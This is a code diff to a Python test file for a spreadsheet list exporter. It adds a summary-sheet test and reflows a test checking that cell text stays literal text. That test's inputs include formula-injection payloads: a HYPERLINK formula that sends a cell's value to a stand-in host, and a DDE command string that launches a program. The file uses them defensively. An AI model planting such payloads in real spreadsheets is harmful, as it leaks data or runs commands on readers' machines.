@@ -137,11 +137,21 @@ def test_the_summary_tells_what_changed_and_what_is_missing() -> None:
     assert any("ab" * 32 in cell for cell in last)
 
 
+def test_where_everything_is_new_the_summary_points_to_the_list() -> None:
+    lines = [a_line(number) for number in range(3)]
+    changes = ListChanges((0, 1, 2), (), (), (), "This is the first list.")
+    book = CalamineWorkbook.from_filelike(BytesIO(write_lpm_list(a_list(*lines, changes=changes, not_ready=()))))
+    cells = [cell for row in book.get_sheet_by_index(0).to_python() for cell in row]
+    assert "That is the whole list: see the next sheet." in cells
+    assert "Reference" not in cells
+
+
 @pytest.mark.parametrize(
     "text",
     [
         "=1+1", '=HYPERLINK("http://e.example?"&A2)', "=cmd|'/C calc'!A0", "+44 116 000", "-1+1", "@SUM(1)", "==", "=",
-        "\t=1+1", "#REF!", "TRUE", "1E5", "30/3/17", "007", "_x0041_ <b>&amp;</b>", "  spaces  ", "a\nb", '<row hidden="1"> <f> state="hidden"', "𝕏 é 漢",
+        "\t=1+1", "#REF!", "TRUE", "1E5", "30/3/17", "007", "_x0041_ <b>&amp;</b>", "  spaces  ", "a\nb",
+        '<row hidden="1"> <f> state="hidden"', "𝕏 é 漢",
     ],
 )  # fmt: skip
 def test_text_is_text_whatever_it_begins_with(text: str) -> None:
